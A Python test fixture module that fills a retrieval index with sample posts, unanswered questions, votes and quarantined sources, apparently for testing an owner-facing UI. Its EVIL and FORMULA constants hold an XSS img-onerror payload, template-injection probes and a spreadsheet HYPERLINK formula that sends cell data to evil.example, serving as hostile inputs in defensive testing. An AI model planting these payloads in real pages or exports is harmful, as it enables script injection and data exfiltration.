"""An index whose owner has something to look at: a sync, questions, votes, and ill will."""

from __future__ import annotations

import json
from collections.abc import Sequence
from contextlib import closing
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

from ingest.sync import sync
from rag.catalog.catalog import Catalog
from rag.catalog.sources import Quarantined, set_quarantine
from rag.settings import load_settings
from ui.feedback import Feedback, Unanswered, unanswered, votes

EVIL = "<img src=x onerror=\"document.title='owned'\"> {{7*7}} ${document.title='owned'}"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
SLUGS = "Do beer traps help against slugs?"


def days_ago(days: int) -> str:
    return (datetime.now(UTC).date() - timedelta(days=days)).isoformat()


ASKED = (
    *(Unanswered(days_ago(days), SLUGS) for days in (9, 4, 1)),
    Unanswered(days_ago(2), "do beer traps help against slugs"),
    Unanswered(days_ago(30), "How much is the entry?"),
    Unanswered(days_ago(3), f"Why {EVIL}?"),
    Unanswered(days_ago(5), FORMULA),
)
VOTES = (
    Feedback(days_ago(8), "How many lettuces did the bare bed lose?", True),
    Feedback(days_ago(6), f"Is it {EVIL}?", False, f"other {EVIL}"),
    Feedback(days_ago(1), "Who won the world cup?", False, "out-of-date"),
)


def entry(number: int, title: str, **changes: Any) -> dict[str, Any]:
    made = {
        "id": number,
        "date_gmt": "2024-03-01T12:00:00",
        "modified_gmt": "2024-03-01T12:00:00",
        "link": f"https://garden.example/{number}/",
        "title": {"rendered": title},
        "content": {"rendered": f"<p>What {title} is about.</p>", "protected": False},
    }
    return {**made, **changes}


def source_file(folder: Path) -> Path:
    """Two posts, and one that is private."""
    file = folder / "posts.json"
    entries = [entry(21, "Asters"), entry(22, "Beans"), entry(23, "Chard", status="private")]
    file.write_text(json.dumps(entries), encoding="utf-8")
    return file


def furnish(index: Path, payloads: Sequence[str] = ()) -> None:
    """Add all of that to an index of the hash model; and what strangers send, if anything."""
    source = source_file(index.parent)
    sync([str(source)], load_settings(index=index, embedding_model="hash"))
    with closing(Catalog(index)) as catalog:
        broken = Quarantined("posts", f"broken {EVIL}", f"not WordPress data {EVIL}")
        hostile = [Quarantined("posts", one, one) for one in payloads]
        set_quarantine(catalog, "posts", [broken, *hostile])
    for question in ASKED:
        unanswered(index).add(question)
    for vote in VOTES:
        votes(index).add(vote)
    for payload in payloads:
        unanswered(index).add(Unanswered(days_ago(1), f"Why {payload}"))
        votes(index).add(Feedback(days_ago(1), f"Why {payload}", False, payload))
